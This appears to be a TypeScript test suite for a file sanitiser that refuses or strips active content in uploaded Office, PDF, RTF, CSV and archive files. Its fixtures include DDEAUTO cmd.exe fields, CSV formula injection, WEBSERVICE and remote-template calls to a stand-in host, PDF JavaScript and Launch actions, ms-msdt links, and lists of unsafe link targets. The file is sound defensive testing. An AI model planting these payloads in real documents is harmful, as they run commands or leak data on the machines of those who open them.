/* oxlint-disable max-lines -- the cases of one subject, which share their set-up */
import { inChinese } from '../../kernel/words/message';
import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';
import CFB from 'cfb';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { DomainError } from '../../kernel/errors';
import { ACTIVE_CONTENT, type ActiveContentId, type ActiveFormat, isProgramName, isSafeTarget } from './active-content';
import { FILE_TYPES } from './file-limits';
import { fileText } from './file-text.server';
import { stripMetadata } from './strip-metadata.server';
import { saying } from '../../../tests/setup/messages';

const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const NS = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="${RELATIONS}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"`;
const WORDS = '正文文字';
const PROGRAM = new Uint8Array([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0]);
const ELSEWHERE = 'http://elsewhere.example/';

type Parts = Record<string, string | Uint8Array>;

function pack(parts: Parts): Uint8Array {
  return zipSync(Object.fromEntries(Object.entries(parts).map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part])));
}

function relation(id: string, type: string, target: string, mode = 'External'): string {
  return `<Relationship Id="${id}" Type="${RELATIONS}/${type}" Target="${target}"${mode === '' ? '' : ` TargetMode="${mode}"`}/>`;
}
const relations = (...each: string[]) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${each.join('')}</Relationships>`;
const types = (main: string, more = '') =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/x" ContentType="application/vnd.openxmlformats-officedocument.${main}.main+xml"/>${more}</Types>`;

const docx = (body: string, more: Parts = {}) =>
  pack({
    '[Content_Types].xml': types('wordprocessingml.document'),
    '_rels/.rels': relations(relation('rId1', 'officeDocument', 'word/document.xml', '')),
    'word/document.xml': `<w:document ${NS}><w:body><w:p><w:r><w:t>${WORDS}</w:t></w:r></w:p>${body}</w:body></w:document>`,
    ...more,
  });
const sheet = (cells: string, tail = '') =>
  `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ${NS}><sheetData><row><c t="inlineStr"><is><t>${WORDS}</t></is></c>${cells}</row></sheetData>${tail}</worksheet>`;
const xlsx = (more: Parts = {}) =>
  pack({
    '[Content_Types].xml': types('spreadsheetml.sheet'),
    '_rels/.rels': relations(relation('rId1', 'officeDocument', 'xl/workbook.xml', '')),
    'xl/workbook.xml': `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ${NS}><sheets><sheet name="表" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': relations(relation('rId1', 'worksheet', 'worksheets/sheet1.xml', '')),
    'xl/worksheets/sheet1.xml': sheet(''),
    ...more,
  });
const slide = (more: string) =>
  `<p:sld ${NS}><p:cSld><p:spTree><a:p><a:r><a:rPr/><a:t>${WORDS}</a:t></a:r></a:p>${more}</p:spTree></p:cSld></p:sld>`;
const pptx = (more: Parts = {}) =>
  pack({
    '[Content_Types].xml': types('presentationml.presentation'),
    '_rels/.rels': relations(relation('rId1', 'officeDocument', 'ppt/presentation.xml', '')),
    'ppt/presentation.xml': `<p:presentation ${NS}/>`,
    'ppt/slides/slide1.xml': slide(''),
    ...more,
  });

type Stream = [name: string, content: Uint8Array];
function ole(...streams: Stream[]): Uint8Array {
  const file = CFB.utils.cfb_new();
  for (const [name, content] of streams)
    CFB.utils.cfb_add(file, name, Buffer.concat([content, Buffer.alloc(Math.max(0, 5_000 - content.length))]));
  return new Uint8Array(CFB.write(file, { type: 'buffer' }) as Buffer);
}
const NOTHING = new Uint8Array(16);
const oldOffice: Readonly<Record<'doc' | 'xls' | 'ppt', string>> = { doc: '/WordDocument', xls: '/Workbook', ppt: '/PowerPoint Document' };
const old = (format: 'doc' | 'xls' | 'ppt', ...more: Stream[]) => ole([oldOffice[format], NOTHING], ...more);
const ofOld = (...more: Stream[]) => ({ doc: () => old('doc', ...more), xls: () => old('xls', ...more), ppt: () => old('ppt', ...more) });

/** A program as an officer drags it into a document: Packager keeps its name, its path and its bytes. */
const packaged = Buffer.concat([Buffer.from([0, 0, 0, 0, 2, 0]), Buffer.from('附件\0C:\\a\\setup.exe\0', 'latin1'), PROGRAM]);
const record = (type: number, ...content: number[]) => [type & 255, type >> 8, content.length & 255, content.length >> 8, ...content];

async function pdf(change: (document: PDFDocument) => void | Promise<void>): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.addPage().drawText('Words 1', { font: await document.embedFont(StandardFonts.Helvetica) });
  await change(document);
  return document.save({ useObjectStreams: false });
}
/** An action on a link of the first page. */
const pdfAction = (action: Record<string, unknown>) =>
  pdf((document) => {
    const { context } = document;
    document
      .getPage(0)
      .node.addAnnot(context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 10, 10], A: action as never })));
  });
const pdfFile = (name: string, bytes: Uint8Array) => pdf((document) => document.attach(bytes, name));

const field = (...code: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${code.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>结果文字</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

type Make = () => Uint8Array | Promise<Uint8Array>;
type Samples = { [Id in ActiveContentId]: { [Format in (typeof ACTIVE_CONTENT)[Id]['formats'][number]]: readonly Make[] } };
const each = <F extends string>(formats: Record<F, Make>): Record<F, readonly Make[]> =>
  Object.fromEntries(Object.entries<Make>(formats).map(([format, make]) => [format, [make]])) as unknown as Record<F, readonly Make[]>;
/** The same part in each kind of package. */
const office = (change: (folder: string) => { parts?: Parts; relations?: string; body?: string }) => ({
  docx: [
    () => {
      const { parts, relations: list, body } = change('word');
      return docx(body ?? '', { ...(list === undefined ? {} : { 'word/_rels/document.xml.rels': relations(list) }), ...parts });
    },
  ],
  xlsx: [
    () => {
      const { parts, relations: list, body } = change('xl');
      return xlsx({
        ...(list === undefined ? {} : { 'xl/worksheets/_rels/sheet1.xml.rels': relations(list) }),
        'xl/worksheets/sheet1.xml': sheet('', body ?? ''),
        ...parts,
      });
    },
  ],
  pptx: [
    () => {
      const { parts, relations: list, body } = change('ppt');
      return pptx({
        ...(list === undefined ? {} : { 'ppt/slides/_rels/slide1.xml.rels': relations(list) }),
        'ppt/slides/slide1.xml': slide(body ?? ''),
        ...parts,
      });
    },
  ],
});

const SAMPLES: Samples = {
  macro: { ...office((folder) => ({ parts: { [`${folder}/vbaProject.bin`]: 'x' } })), ...each(ofOld(['/Macros/VBA/dir', NOTHING])) },
  'macro-sheet': {
    xlsx: [
      () => xlsx({ 'xl/macrosheets/sheet2.xml': '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>' }),
      () =>
        xlsx({
          'xl/workbook.xml':
            '<x:workbook xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:definedNames><x:definedName name="Auto_Open" xlm="1">A!$A$1</x:definedName></x:definedNames></x:workbook>',
        }),
    ],
    xls: [() => ole(['/Workbook', new Uint8Array([...record(0x809, 0, 6, 5, 0), ...record(0x85, 0, 0, 0, 0, 0, 1, 1, 0, 65)])])],
  },
  'embedded-program': {
    ...office((folder) => ({ parts: { [`${folder}/embeddings/oleObject1.bin`]: ole(['/\u0001Ole10Native', packaged]) } })),
    ...each(ofOld(['/ObjectPool/_1/\u0001Ole10Native', packaged])),
    pdf: [() => pdfFile('setup.exe', PROGRAM), () => pdfFile('说明.txt', PROGRAM), () => pdfFile('a.docm', strToU8('x'))],
    ofd: [() => pack({ 'OFD.xml': '<OFD/>', 'Doc_0/Attachs/run.vbs': 'x' })],
    zip: [
      () => pack({ 'a.txt': '甲', '夹/安装.EXE ': 'x' }),
      () => pack({ '图.jpg': PROGRAM }),
      () => pack({ 'a.zip': pack({ '网页.htm': '<p>' }) }),
    ],
  },
  'active-control': {
    ...office((folder) => ({ parts: { [`${folder}/activeX/activeX1.xml`]: '<a/>' } })),
    ...each(ofOld(['/ObjectPool/_1/\u0003OCXNAME', NOTHING])),
  },
  'web-part': {
    docx: [
      () =>
        docx('<w:altChunk r:id="rId5"/>', {
          'word/afchunk.mht': 'MIME-Version: 1.0',
          'word/_rels/document.xml.rels': relations(relation('rId5', 'aFChunk', 'afchunk.mht', '')),
        }),
      () =>
        docx('<w:altChunk r:id="rId5"/>', {
          'word/part.rtf': '{\\rtf1 {\\field{\\*\\fldinst DDEAUTO cmd}}}',
          'word/_rels/document.xml.rels': relations(relation('rId5', 'aFChunk', 'part.rtf', '')),
        }),
    ],
  },
  'data-connection': {
    xlsx: [
      () => xlsx({ 'xl/connections.xml': '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>' }),
      () => xlsx({ 'customXml/item1.xml': '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">x</DataMashup>' }),
    ],
  },
  'dde-link': {
    xlsx: [
      () =>
        xlsx({
          'xl/externalLinks/externalLink1.xml':
            '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        }),
    ],
    xls: [() => ole(['/Workbook', new Uint8Array([...record(0x809, 0, 6, 5, 0), ...record(0x1ae, 1, 0, 5, 0, 0, 99, 109, 100, 3, 47)])])],
    doc: [
      () => ole(['/WordDocument', Buffer.concat([NOTHING, Buffer.from('\u0013 DDEAUTO c:\\\\cmd.exe \u0014x\u0015', 'latin1')])]),
      () => ole(['/WordDocument', Buffer.concat([NOTHING, Buffer.from('\u0013 dde cmd\u0014x\u0015', 'utf16le')])]),
    ],
    rtf: [
      () => strToU8('{\\rtf1 {\\field{\\*\\fldinst DDEAUTO cmd "/c calc"}{\\fldrslt x}}}'),
      () => strToU8("{\\rtf1 {\\field{\\*\\fldinst {D}{\\b D\\'45}AUTO cmd}{\\fldrslt x}}}"),
    ],
    csv: [
      () => strToU8("名称,数\n=cmd|'/c calc'!A0,1"),
      () => strToU8('名称\n"+1+cmd|\'/c calc\'!A0"'),
      () => strToU8('\ufeff名称\t=WEBSERVICE("http://x")'),
    ],
  },
  'embedded-object': {
    rtf: [() => strToU8('{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}'), () => strToU8(`{\\rtf1{\\*\\template ${ELSEWHERE}t.dot}a}`)],
  },
  'fetching-field': {
    docx: [
      () => docx(field(' DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot; ')),
      () => docx(field('D', 'DEAUTO cmd')),
      () => docx(field(` INCLUDEPICTURE &quot;${ELSEWHERE}a.png&quot; \\d `)),
      () => docx(field(' DATABASE \\c x')),
      () => docx(field('<![CDATA[LINK Excel.Sheet x]]>')),
      () => docx(`<w:p><w:fldSimple w:instr=" INCLUDETEXT ${ELSEWHERE}a.docx "><w:r><w:t>结果文字</w:t></w:r></w:fldSimple></w:p>`),
      () => docx(field(' HYPERLINK &quot;\\\\\\\\10.0.0.8\\\\share\\\\a.exe&quot; ')),
      () =>
        docx(
          '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> cmd calc</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>结果文字</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        ),
      () =>
        pack(
          Object.fromEntries(
            Object.entries(unzipSync(docx(field('DDEAUTO cmd')))).map(([name, part]) => [
              name,
              name === 'word/document.xml'
                ? Buffer.from(part).toString('utf8').replaceAll('w:', 'q:').replace('xmlns:w=', 'xmlns:q=')
                : part,
            ]),
          ),
        ),
    ],
  },
  'fetching-formula': {
    xlsx: [
      () =>
        xlsx({
          'xl/worksheets/sheet1.xml': sheet('<c r="B1"><f>_xlfn.WEBSERVICE("http://elsewhere.example/"&amp;A1)</f><v>7</v></c>'),
          'xl/calcChain.xml': '<calcChain xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><c r="B1"/></calcChain>',
        }),
    ],
  },
  'remote-template': {
    docx: [
      () =>
        docx('', {
          'word/settings.xml': `<w:settings ${NS}><w:attachedTemplate r:id="rId1"/></w:settings>`,
          'word/_rels/settings.xml.rels': relations(relation('rId1', 'attachedTemplate', `${ELSEWHERE}t.dotm`)),
        }),
    ],
  },
  'mail-merge': {
    docx: [
      () =>
        docx('', {
          'word/settings.xml': `<w:settings ${NS}><w:mailMerge><w:query w:val="SELECT"/><w:dataSource r:id="rId1"/></w:mailMerge></w:settings>`,
          'word/_rels/settings.xml.rels': relations(relation('rId1', 'mailMergeSource', 'file:///C:\\Users\\a\\b.xlsx')),
        }),
    ],
  },
  'linked-content': office((folder) => ({
    relations: relation('rId5', 'image', `${ELSEWHERE}a.png`),
    body:
      folder === 'word'
        ? '<w:p><w:r><w:drawing><a:blip r:link="rId5"/></w:drawing><w:pict><v:imagedata r:id="rId5" src="file:///C:/a.png" o:title=""/></w:pict><w:object><o:OLEObject Type="Link" ProgID="x" r:id="rId5"/></w:object></w:r></w:p>'
        : folder === 'xl'
          ? '<a:blip r:link="rId5"/>'
          : '<a:videoFile r:link="rId5"/><a:blip r:embed="rId9" r:link="rId5"/>',
  })),
  'linked-workbook': {
    xlsx: [
      () =>
        xlsx({
          'xl/externalLinks/externalLink1.xml': `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ${NS}><externalBook r:id="rId1"/></externalLink>`,
          'xl/externalLinks/_rels/externalLink1.xml.rels': relations(
            relation('rId1', 'externalLinkPath', 'file:///\\\\10.0.0.8\\share\\elsewhere.example.xlsx'),
          ),
        }),
    ],
  },
  'unsafe-link': {
    ...office((folder) => ({
      relations: relation('rId5', 'hyperlink', 'file:///C:/elsewhere.example/a.exe'),
      body:
        folder === 'word'
          ? '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>链接文字</w:t></w:r></w:hyperlink></w:p>'
          : folder === 'xl'
            ? '<hyperlinks><hyperlink ref="A1" r:id="rId5"/></hyperlinks>'
            : '<a:p><a:r><a:rPr><a:hlinkClick r:id="rId5"/></a:rPr><a:t>链接文字</a:t></a:r></a:p>',
    })),
    pdf: [
      () => pdfAction({ S: 'URI', URI: PDFString.of('ms-msdt:/id elsewhere.example') }),
      () => pdfAction({ S: 'URI', URI: PDFString.of('java\nscript:app.alert(1)') }),
    ],
  },
  'running-action': {
    pptx: [
      () =>
        pptx({
          'ppt/slides/slide1.xml': slide(
            '<a:p><a:r><a:rPr><a:hlinkClick r:id="" action="ppaction://macro?name=elsewhere.example"/></a:rPr><a:t>按钮</a:t></a:r></a:p>',
          ),
        }),
    ],
  },
  'add-in': office(() => ({
    parts: {
      '_rels/.rels': relations(
        relation('rId1', 'officeDocument', 'word/document.xml', ''),
        relation('rId7', 'webextensiontaskpanes', 'word/webextensions/taskpanes.xml', ''),
      ),
      'word/webextensions/taskpanes.xml': `<a>${ELSEWHERE}</a>`,
    },
  })),
  script: {
    pdf: [
      () => pdf((document) => document.addJavaScript('a', 'app.launchURL("http://elsewhere.example/")')),
      () => pdfAction({ S: 'JavaScript', JS: PDFString.of('elsewhere.example') }),
      () =>
        pdf(({ catalog, context }) =>
          catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'JavaScript', JS: PDFString.of('elsewhere.example') })),
        ),
      () =>
        pdf((document) =>
          document
            .getPage(0)
            .node.set(
              PDFName.of('AA'),
              document.context.obj({ O: { S: 'GoTo', Next: [{ S: 'JavaScript', JS: PDFString.of('elsewhere.example') }] } }),
            ),
        ),
      () =>
        pdf(({ catalog, context }) =>
          catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [], XFA: PDFString.of('<script>elsewhere.example') })),
        ),
    ],
  },
  'acting-annotation': {
    pdf: [
      () => pdfAction({ S: 'Launch', F: PDFString.of('elsewhere.example.exe') }),
      () => pdfAction({ S: 'GoToR', F: PDFString.of('\\\\elsewhere.example\\a.pdf') }),
      () => pdfAction({ S: 'SubmitForm', F: PDFString.of(ELSEWHERE) }),
    ],
  },
  'played-media': {
    pdf: [
      () =>
        pdf((document) =>
          document.getPage(0).node.addAnnot(
            document.context.register(
              document.context.obj({
                Type: 'Annot',
                Subtype: 'RichMedia',
                Rect: [0, 0, 9, 9],
                Contents: PDFString.of('elsewhere.example'),
              }),
            ),
          ),
        ),
    ],
  },
  'dynamic-form': {
    pdf: [
      () =>
        pdf(({ catalog, context }) => {
          catalog.set(PDFName.of('NeedsRendering'), context.obj(true));
          catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [], XFA: PDFString.of('x') }));
        }),
    ],
  },
};

const type = (format: ActiveFormat) => FILE_TYPES[format]!.mediaType;
const rows = Object.entries(ACTIVE_CONTENT).flatMap(([id, row]) =>
  row.formats.flatMap((format) =>
    (SAMPLES[id as ActiveContentId] as Record<string, readonly Make[]>)[format]!.map((make, at) => ({
      id: id as ActiveContentId,
      format: format as ActiveFormat,
      treatment: row.treatment,
      make,
      at,
    })),
  ),
);

describe('what acts in a published file', () => {
  test.each(rows.filter(({ treatment }) => treatment === 'refused'))('$format refused for $id, $at', async ({ id, format, make }) => {
    const error: unknown = await stripMetadata(await make(), type(format)).catch((fault: unknown) => fault);
    expect(error).toBeInstanceOf(DomainError);
    expect(error).toMatchObject({ code: 'invalid', details: [{ field: 'file', message: ACTIVE_CONTENT[id].words }] });
  });

  test.each(rows.filter(({ treatment }) => treatment === 'removed'))('$format without $id, $at', async ({ id, format, make }) => {
    const bytes = await make();
    const { bytes: stripped, notes } = await stripMetadata(bytes, type(format));
    expect(notes.map(inChinese).join()).toContain(ACTIVE_CONTENT[id].words);
    const whole =
      format === 'pdf'
        ? Buffer.from(await (await PDFDocument.load(stripped)).save({ useObjectStreams: false })).toString('latin1')
        : Object.values(unzipSync(stripped))
            .map((part) => Buffer.from(part).toString('utf8'))
            .join('');
    expect(whole).not.toMatch(
      /elsewhere\.example\/|elsewhere\.example\.exe|DDE|10\.0\.0\.8|C:[\\/]|INCLUDE|DATABASE|LINK Excel|\/JavaScript|\/JS\b/,
    );
    // The visible text stays, and a second time nothing is left to be done.
    const { text } = await fileText(stripped, type(format));
    expect(text).toContain(format === 'pdf' ? 'Words 1' : WORDS);
    if (id === 'fetching-field') expect(text).toContain('结果文字');
    expect((await stripMetadata(stripped, type(format))).notes).toEqual([]);
  });

  test.each(rows)('$format within an archive or a document is refused for $id, $at', { timeout: 30_000 }, async ({ format, make }) => {
    const inner = await make();
    const archive = pack({ 'a.txt': '甲', [`夹/说明.${format}`]: inner });
    for (const [bytes, outer] of [
      [archive, 'zip'],
      [pack({ 'b.zip': archive }), 'zip'],
      ...(format === 'csv' ? [] : [[docx('', { [`word/embeddings/说明.${format}`]: inner }), 'docx']]),
    ] as [Uint8Array, ActiveFormat][]) {
      await expect(stripMetadata(bytes, type(outer))).rejects.toMatchObject({ code: 'invalid', details: [{ field: 'file' }] });
    }
  });

  test('fields and links that only show stay', async () => {
    const kept = `${field(' PAGE ')}${field(' REF _Toc1 \\h ')}${field(' HYPERLINK &quot;https://www.example.gov.cn/a?b=1&amp;c=2&quot; ')}${field(' TOC \\o &quot;1-3&quot; ')}<w:p><w:fldSimple w:instr=" SEQ 表 "><w:r><w:t>1</w:t></w:r></w:fldSimple><w:hyperlink r:id="rId5"><w:r><w:t>网址</w:t></w:r></w:hyperlink></w:p>`;
    const bytes = docx(kept, { 'word/_rels/document.xml.rels': relations(relation('rId5', 'hyperlink', 'https://www.example.gov.cn/')) });
    const stripped = await stripMetadata(bytes, type('docx'));
    expect(stripped.notes).toEqual([]);
    expect(Buffer.from(unzipSync(stripped.bytes)['word/document.xml']!).toString('utf8')).toContain(kept);
    expect(
      (await stripMetadata(xlsx({ 'xl/worksheets/sheet1.xml': sheet('<c r="B1"><f>SUM(A1:A9)</f><v>7</v></c>') }), type('xlsx'))).notes,
    ).toEqual([]);
    expect(
      (await stripMetadata(await pdfAction({ S: 'URI', URI: PDFString.of('https://www.example.gov.cn/') }), 'application/pdf')).notes,
    ).toEqual([]);
    expect((await stripMetadata(strToU8('名称,数\n-5,+3\n"甲|乙!",=A1\n@人,1'), 'text/csv')).notes).toEqual([]);
  });

  test.each([
    'text/html',
    'message/rfc822',
    'application/vnd.ms-office.vbaProject',
    'application/vnd.ms-office.activeX+xml',
    'application/vnd.ms-excel.macrosheet+xml',
    'application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml',
  ])('an ending that no part has declares nothing: %s', async (kind) => {
    const declared = (ending: string) =>
      docx('', {
        'word/a.BIN': 'x',
        '[Content_Types].xml': types('wordprocessingml.document', `<Default ContentType="${kind}" Extension="${ending}"/>`),
      });
    expect((await stripMetadata(declared('other'), type('docx'))).notes).toEqual([]);
    await expect(stripMetadata(declared('bin'), type('docx'))).rejects.toMatchObject({ code: 'invalid' });
  });

  test('a signed file that acts is refused, one that does not stays as it is', async () => {
    const signature = { '_xmlsignatures/sig1.xml': '<a/>' };
    await expect(stripMetadata(docx(field('DDEAUTO cmd'), signature), type('docx'))).rejects.toMatchObject({
      code: 'invalid',
      details: [{ message: saying('电子签章') }],
    });
    expect((await stripMetadata(docx('', signature), type('docx'))).notes).toEqual([saying('原样保留')]);
  });

  test('descriptions that a program wrote go, those of people stay', async () => {
    const drawn = (words: string) =>
      `<w:p><w:r><w:drawing><wp:docPr xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" id="1" name="a" descr="${words}"/></w:drawing></w:r></w:p>`;
    const { bytes, notes } = await stripMetadata(docx(`${drawn('C:\\Users\\张三\\a.png')}${drawn('办事大厅全景')}`), type('docx'));
    const xml = Buffer.from(unzipSync(bytes)['word/document.xml']!).toString('utf8');
    expect(notes).toEqual([]);
    expect(xml).not.toContain('张三');
    expect(xml).toContain('办事大厅全景');
  });

  test('variables and the picture of the first page go as metadata do', async () => {
    const { bytes, notes } = await stripMetadata(
      docx('', {
        'docProps/thumbnail.jpeg': 'x',
        'word/settings.xml': `<w:settings ${NS}><w:docVars><w:docVar w:name="a" w:val="张三"/></w:docVars></w:settings>`,
      }),
      type('docx'),
    );
    expect(notes).toEqual([]);
    expect(Object.keys(unzipSync(bytes))).not.toContain('docProps/thumbnail.jpeg');
    expect(Buffer.from(unzipSync(bytes)['word/settings.xml']!).toString('utf8')).not.toContain('张三');
  });
});

test.each(['a.exe', 'A.EXE', 'a.exe ', 'a.exe\u200b', 'a.e\u200bxe', 'a.txt.js', 'a.docm.', '说明.hta'])('%j is a program', (name) =>
  expect(isProgramName(name)).toBe(true),
);
test.each(['a.docx', 'exe', 'a.exe.txt', 'readme.xml'])('%j is none', (name) => expect(isProgramName(name)).toBe(false));
test.each(['https://a.cn/', 'mailto:a@b.cn', '#节', '附件1.docx', '../a.pdf'])('%j may be followed', (target) =>
  expect(isSafeTarget(target)).toBe(true),
);
test.each([
  'javascript:x',
  ' java\tscript:x',
  'file:///C:/a',
  'C:\\a.docx',
  '\\\\host\\a',
  '//host/a',
  'ms-word:ofe|u|http://a',
  'search-ms:q',
  'a.exe',
  'a.exe?x=1',
  'data:text/html,x',
])('%j may not', (target) => expect(isSafeTarget(target)).toBe(false));
